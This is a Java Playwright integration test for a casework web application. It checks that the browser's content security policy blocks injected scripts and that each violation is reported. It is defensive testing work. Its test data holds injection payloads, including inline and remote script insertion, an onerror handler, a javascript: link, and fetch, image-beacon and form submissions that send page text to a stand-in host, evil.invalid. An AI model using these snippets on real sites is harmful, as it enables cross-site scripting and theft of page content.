package org.tongchou.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.tongchou.http.Installation;

/** What a smuggled-in piece of a page would try, a real browser forbids under our policy; and the tests notice when it happens. */
@Tag("browser")
class PolicyIT {

    private static Desktop desktop;
    private static Page page;

    @BeforeAll
    static void a_page_of_somebody_logged_in() {
        desktop = new Desktop();
        page = desktop.login("tw-340302001");
    }

    @AfterAll
    static void leave() {
        desktop.close();
    }

    @TestFactory
    Stream<DynamicTest> what_is_planted_into_a_page_is_forbidden_and_noticed() {
        return Stream.of(
                "script-src-elem | const s = document.createElement('script'); s.textContent = 'window.planted = 1'; document.body.append(s);",
                "script-src-elem | const s = document.createElement('script'); s.src = 'https://evil.invalid/x.js'; document.body.append(s);",
                "script-src-attr | document.body.insertAdjacentHTML('beforeend', '<img src=\"/nothing.png\" onerror=\"window.planted = 1\">');",
                "script-src-elem | document.body.insertAdjacentHTML('beforeend', '<a id=\"trap\" href=\"javascript:window.planted=1\">x</a>'); document.getElementById('trap').click();",
                "img-src | new Image().src = 'https://evil.invalid/?' + document.title;",
                "connect-src | fetch('https://evil.invalid/', {method: 'POST', body: document.body.innerText}).catch(() => 0);",
                "form-action | const f = document.createElement('form'); f.action = 'https://evil.invalid/'; f.method = 'post'; document.body.append(f); f.submit();",
                "base-uri | const b = document.createElement('base'); b.href = 'https://evil.invalid/'; document.head.append(b);",
                "frame-src | const i = document.createElement('iframe'); i.src = 'https://evil.invalid/'; document.body.append(i);",
                "object-src | const o = document.createElement('object'); o.data = 'https://evil.invalid/x'; document.body.append(o);")
            .map(line -> line.split(" [|] ")).map(plant -> DynamicTest.dynamicTest(plant[0] + ": " + plant[1], () -> {
                Desktop.open(page, "/casework/work-list.xhtml");
                assertEquals(List.of(), desktop.takeComplaints(), "the page itself keeps to its policy");
                page.waitForConsoleMessage(new Page.WaitForConsoleMessageOptions().setPredicate(message -> message.text().startsWith("policy violated: " + plant[0])),
                    () -> page.evaluate("() => { " + plant[1] + " }"));
                assertTrue(desktop.takeComplaints().stream().anyMatch(complaint -> complaint.contains("policy violated: " + plant[0])));
                assertNull(page.evaluate("window.planted"));
                assertTrue(page.url().startsWith(Installation.http()));
            }));
    }

    @Test
    void a_violation_fails_the_tests_that_used_the_browser() {
        Desktop other = new Desktop();
        Page board = other.visitor(ColorScheme.LIGHT);
        Desktop.open(board, "/publicnotice/board.xhtml?office=340302001");
        board.waitForConsoleMessage(new Page.WaitForConsoleMessageOptions().setPredicate(message -> message.text().startsWith("policy violated")),
            () -> board.evaluate("() => { const s = document.createElement('script'); s.textContent = '1'; document.body.append(s); }"));
        AssertionError red = assertThrows(AssertionError.class, other::close);
        assertTrue(red.getMessage().contains("policy violated: script-src-elem"), red.getMessage());
    }
}
